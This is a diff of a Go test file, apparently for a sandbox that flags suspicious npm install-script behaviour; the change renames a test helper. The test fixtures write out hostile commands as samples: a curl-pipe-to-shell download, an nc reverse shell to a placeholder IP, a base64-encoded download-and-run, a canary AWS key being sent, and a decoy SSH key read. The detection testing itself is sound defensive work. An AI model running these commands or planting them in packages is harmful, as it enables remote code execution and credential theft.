@@ -40,7 +40,7 @@ func newTestRecorder(eco string, procs fakeProcs) *Recorder {
 
 var evilEnv = map[string]string{"npm_package_name": "evil", "npm_package_version": "6.6.6", "npm_lifecycle_event": "postinstall"}
 
-func exec(pid int, env map[string]string, cwd string, argv ...string) container.SyscallEvent {
+func execEv(pid int, env map[string]string, cwd string, argv ...string) container.SyscallEvent {
 	return container.SyscallEvent{Pid: pid, Syscall: "execve", Path: argv[0], Argv: argv, Env: env, Cwd: cwd}
 }
 
@@ -68,8 +68,8 @@ func TestRules(t *testing.T) {
 		20: {parent: 10}, 30: {parent: 20}, 31: {parent: 30}, 40: {parent: 10},
 	}
 	script := func(r *Recorder, env map[string]string, cmd string) {
-		r.OnEvent(exec(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
-		r.OnEvent(exec(20, env, "/p/node_modules/x", "sh", "-c", cmd))
+		r.OnEvent(execEv(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
+		r.OnEvent(execEv(20, env, "/p/node_modules/x", "sh", "-c", cmd))
 	}
 	for _, tt := range []struct {
 		name   string
@@ -78,7 +78,7 @@ func TestRules(t *testing.T) {
 	}{
 		{"connect to a host", func(r *Recorder) {
 			script(r, evilEnv, "node install.js")
-			r.OnEvent(exec(30, evilEnv, "/p/node_modules/evil", "node", "install.js"))
+			r.OnEvent(execEv(30, evilEnv, "/p/node_modules/evil", "node", "install.js"))
 			r.OnEvent(call(30, evilEnv, "connect", "203.0.113.9:443"))
 			r.OnEvent(call(30, evilEnv, "connect", "[2001:db8::1]:443"))
 		}, "evil@6.6.6 PB-BEHAVIOUR-NETWORK high\n"},
@@ -97,32 +97,32 @@ func TestRules(t *testing.T) {
 		}, ""},
 		{"a child that cleared its environment is still the package's", func(r *Recorder) {
 			script(r, evilEnv, "env -i node x.js")
-			r.OnEvent(exec(30, nil, "/", "node", "x.js"))
+			r.OnEvent(execEv(30, nil, "/", "node", "x.js"))
 			r.OnEvent(call(30, nil, "connect", "198.51.100.7:80"))
 		}, "evil@6.6.6 PB-BEHAVIOUR-NETWORK high\n"},
 		{"prebuild-install's download attempt is a warning", func(r *Recorder) {
 			env := map[string]string{"npm_package_name": "better-sqlite3", "npm_package_version": "9.4.3"}
 			script(r, env, "prebuild-install || node-gyp rebuild --release")
-			r.OnEvent(exec(30, env, "/p/node_modules/better-sqlite3", "node", "/p/node_modules/.bin/prebuild-install"))
+			r.OnEvent(execEv(30, env, "/p/node_modules/better-sqlite3", "node", "/p/node_modules/.bin/prebuild-install"))
 			r.OnEvent(call(30, env, "connect", "127.0.0.53:53"))
 		}, "better-sqlite3@9.4.3 PB-BEHAVIOUR-NETWORK medium\n"},
 		{"the manager's own attempt is marked", func(r *Recorder) {
-			r.OnEvent(exec(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
+			r.OnEvent(execEv(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
 			r.OnEvent(call(10, nil, "connect", "104.16.0.35:443"))
 		}, "the package manager PB-BEHAVIOUR-NETWORK high (manager)\n"},
 		{"an unattributable process is not the manager", func(r *Recorder) {
-			r.OnEvent(exec(40, nil, "/", "node", "-e", "require('net').connect(443,'x')"))
+			r.OnEvent(execEv(40, nil, "/", "node", "-e", "require('net').connect(443,'x')"))
 			r.OnEvent(call(40, nil, "connect", "192.0.2.1:443"))
 		}, "an unidentified process PB-BEHAVIOUR-NETWORK high\n"},
 		{"curl", func(r *Recorder) {
 			script(r, evilEnv, "curl -s https://x.example/p | sh || true")
-			r.OnEvent(exec(30, evilEnv, "/p/node_modules/evil", "/usr/bin/curl", "-s", "https://x.example/p"))
+			r.OnEvent(execEv(30, evilEnv, "/p/node_modules/evil", "/usr/bin/curl", "-s", "https://x.example/p"))
 		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
 		{"wget, nc, powershell", func(r *Recorder) {
 			script(r, evilEnv, "true")
-			r.OnEvent(exec(30, evilEnv, "/p", "wget", "-q", "http://x"))
-			r.OnEvent(exec(31, evilEnv, "/p", "nc", "-e", "/bin/sh", "192.0.2.1", "4444"))
-			r.OnEvent(exec(30, evilEnv, "/p", "pwsh", "-c", "iwr"))
+			r.OnEvent(execEv(30, evilEnv, "/p", "wget", "-q", "http://x"))
+			r.OnEvent(execEv(31, evilEnv, "/p", "nc", "-e", "/bin/sh", "192.0.2.1", "4444"))
+			r.OnEvent(execEv(30, evilEnv, "/p", "pwsh", "-c", "iwr"))
 		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
 		{"base64 decoded into a shell", func(r *Recorder) {
 			script(r, evilEnv, "echo Y3VybCB4fHNo | base64 -d | sh")
@@ -145,7 +145,7 @@ func TestRules(t *testing.T) {
 				{"sh", "-c", "node ./scripts/postinstall.js || echo 'curl is not needed'"},
 				{"sh", "-c", "test -f dist/x || (echo building; npm run build)"},
 			} {
-				r.OnEvent(exec(30+i%2, env, "/p/node_modules/bcrypt", argv...))
+				r.OnEvent(execEv(30+i%2, env, "/p/node_modules/bcrypt", argv...))
 			}
 		}, ""},
 		{"setsid", func(r *Recorder) {
@@ -159,7 +159,7 @@ func TestRules(t *testing.T) {
 		}, "evil@6.6.6 PB-BEHAVIOUR-REFUSED-SYSCALL medium\n"},
 		{"the canary in a program's arguments", func(r *Recorder) {
 			script(r, evilEnv, "node x.js")
-			r.OnEvent(exec(30, evilEnv, "/p", "node", "-e", "send('AKIA0123456789ABCDEF')"))
+			r.OnEvent(execEv(30, evilEnv, "/p", "node", "-e", "send('AKIA0123456789ABCDEF')"))
 		}, "evil@6.6.6 PB-BEHAVIOUR-CANARY high\n"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
@@ -175,7 +175,7 @@ func TestRules(t *testing.T) {
 
 func TestEvidenceDeduplicatedAndCapped(t *testing.T) {
 	r := newTestRecorder("npm", fakeProcs{20: {parent: 1}})
-	r.OnEvent(exec(20, evilEnv, "/p", "node", "x.js"))
+	r.OnEvent(execEv(20, evilEnv, "/p", "node", "x.js"))
 	for i := 0; i < 3; i++ {
 		r.OnEvent(call(20, evilEnv, "connect", "203.0.113.9:443"))
 	}
@@ -207,8 +207,8 @@ func TestTouchAttribution(t *testing.T) {
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			r := newTestRecorder("npm", tt.procs)
-			r.OnEvent(exec(20, a, "/p", "sh", "-c", "node a.js"))
-			r.OnEvent(exec(21, b, "/p", "sh", "-c", "node b.js"))
+			r.OnEvent(execEv(20, a, "/p", "sh", "-c", "node a.js"))
+			r.OnEvent(execEv(21, b, "/p", "sh", "-c", "node b.js"))
 			r.onTouch(secret)
 			r.onTouch(DecoyTouch{Path: "~/.ssh/id_rsa", Secret: true, Op: "read"})
 			if got := summary(r.Findings()); got != tt.want {
